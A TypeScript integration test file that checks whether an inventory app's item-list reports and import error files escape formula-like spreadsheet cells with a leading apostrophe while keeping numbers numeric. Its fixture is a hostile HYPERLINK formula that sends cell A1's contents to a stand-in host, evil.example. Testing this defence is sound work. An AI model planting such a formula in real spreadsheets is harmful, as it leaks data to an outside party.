import { SQSClient } from '@aws-sdk/client-sqs';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startPoller, type Poller } from '../../infra/local/sqs/poller';
import { api } from '../support/api';
import { companyOwner, uniqueEmail } from '../support/factories';
import { importFile, importPoller, settledDataFile, startImport, uploadFile } from '../support/imports';
import { createItems, itemsPath } from '../support/items';
import { linkIn, mailsTo } from '../support/mail';

/**
 * Text that a spreadsheet could take for a formula (=, +, -, @) reaches the files we write with an
 * apostrophe in front (functions/lib/spreadsheet-cell.ts), and numbers stay numbers.
 */

const hostile = '=HYPERLINK("http://evil.example/?"&A1,"open")';

async function sheetAt(url: string): Promise<ExcelJS.Worksheet> {
  const answer = await fetch(url);
  expect(answer.status).toBe(200);
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(await answer.arrayBuffer());
  return workbook.worksheets[0]!;
}

let pollers: Poller[] = [];
beforeAll(() => {
  pollers = [
    startPoller({ client: new SQSClient({}), queues: { reports: { url: process.env.REPORTS_QUEUE_URL! } }, waitTimeSeconds: 1, log: () => undefined }),
    importPoller(),
  ];
});
afterAll(async () => {
  for (const poller of pollers) await poller.stop();
});

describe('formula injection in spreadsheet files', () => {
  it('the item list report escapes text cells and keeps money numeric', async () => {
    const owner = await companyOwner();
    await createItems(owner, { title: hostile, brand: '@SUM(1+1)', model: '-2+3', price: '10' });
    const email = uniqueEmail('formulas');
    const queued = await api('POST', `${itemsPath(owner)}/report`, { token: owner.token, body: { email } });
    expect(queued.status).toBe(202);
    const [mail] = await mailsTo(email, { timeoutMs: 20_000 });
    const link = linkIn(mail!, '/api/v1/reports/');
    const redirect = await api('GET', `/reports/${link.slice(link.lastIndexOf('/') + 1)}`);
    const row = (await sheetAt(redirect.headers.location!)).getRow(2);
    const texts = [2, 3, 4].map((cell) => row.getCell(cell).value);
    expect(texts).toEqual([`'${hostile}`, "'@SUM(1+1)", "'-2+3"]);
    expect(row.getCell(2).formula).toBeUndefined();
    expect(row.getCell(11).value).toBe(10);
  });

  it('the import error file escapes the copied text and the import reads it back as written', async () => {
    const owner = await companyOwner();
    const file = await importFile([
      [hostile, null, null, null, '-SN-1', null, null, null, null, null],
      ['+Chair', null, null, null, null, null, 4, 'box', null, null],
    ]);
    const started = await startImport(owner, await uploadFile(owner, file), true);
    const done = await settledDataFile(owner, started.body._id);
    expect(done).toMatchObject({ state: 'error', errorCount: 1 });
    const link = await api('GET', `/company/${owner.company._id}/datafiles/${done._id}/error-file`, { token: owner.token });
    const sheet = await sheetAt(link.body.url);
    expect(sheet.getRow(2).getCell(1).value).toBe(`'${hostile}`);
    expect(sheet.getRow(2).getCell(5).value).toBe("'-SN-1");
    expect(sheet.getRow(3).getCell(1).value).toBe("'+Chair");
    expect(sheet.getRow(3).getCell(7).value).toBe(4);

    // Uploaded again after the fix, the titles are the user's own text, without the apostrophe.
    const fixed = await importFile([[hostile, null, null, null, '-SN-1', null, null, null, null, null]]);
    const real = await startImport(owner, await uploadFile(owner, fixed), false);
    expect((await settledDataFile(owner, real.body._id)).state).not.toBe('error');
    const items = await api('GET', itemsPath(owner), { token: owner.token, query: { limit: '10' } });
    expect(items.body.data.map((item: { title: string; serial: string }) => [item.title, item.serial])).toEqual([[hostile, '-SN-1']]);
  });
});
